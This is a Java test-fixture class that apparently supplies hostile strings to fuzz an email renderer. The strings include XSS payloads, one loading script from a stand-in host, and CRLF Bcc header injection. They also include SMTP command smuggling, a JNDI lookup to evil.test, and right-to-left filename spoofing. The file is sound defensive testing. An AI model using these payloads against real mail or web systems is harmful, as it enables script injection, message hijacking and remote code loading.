package io.sharewire.mail;

import java.util.List;
import java.util.Random;

/** What an attacker, or a careless copy and paste, puts into the fields of an article. */
final class HostileTexts {

    private static final List<String> PIECES = List.of(
            "<script>alert(1)</script>",
            "</title><script src=//evil.test></script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "<style>*{display:none}</style>",
            "--><!--",
            "<![endif]-->",
            "]]>",
            "&lt;b&gt; &amp; &#60;i&#62;",
            "\r\nBcc: evil@x.test\r\n",
            "\r\n\r\n<html>",
            "\n.\r\nQUIT\r\n",
            "\r\n--=_0123456789abcdef0123456789abcdef\r\nContent-Type: text/html\r\n\r\n<b>",
            "\r\n--=_0123456789abcdef0123456789abcdef--\r\n",
            "=?utf-8?q?hello=0D=0ABcc:_evil@x.test?=",
            "\u202Egnp.exe\u202C",
            "\u2066a\u2069\u200Fb",
            "\u0000\u0001\u0007\u001B",
            "\u0085\u2028\u2029",
            "\uD83D",
            "\uFFFE\uFEFF",
            "瘍瘊",
            "젊갊čĊ",
            "?&body=evil&subject=evil",
            "&amp;subject=evil#x%0D%0Abcc=evil",
            "%0D%0ABcc:evil@x.test",
            "javascript:alert(1)",
            "${jndi:ldap://evil.test} %s %n {0}",
            "From me",
            "👨‍👩‍👧‍👦",
            "가나다 라마바",
            "x".repeat(1_200));

    private HostileTexts() {}

    /** Every one of them. */
    static List<String> all() {
        return PIECES;
    }

    /** Some of them in a row. */
    static String mixed(Random random) {
        StringBuilder text = new StringBuilder("t");
        int count = 1 + random.nextInt(6);
        for (int i = 0; i < count; i++) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        return text.toString();
    }
}
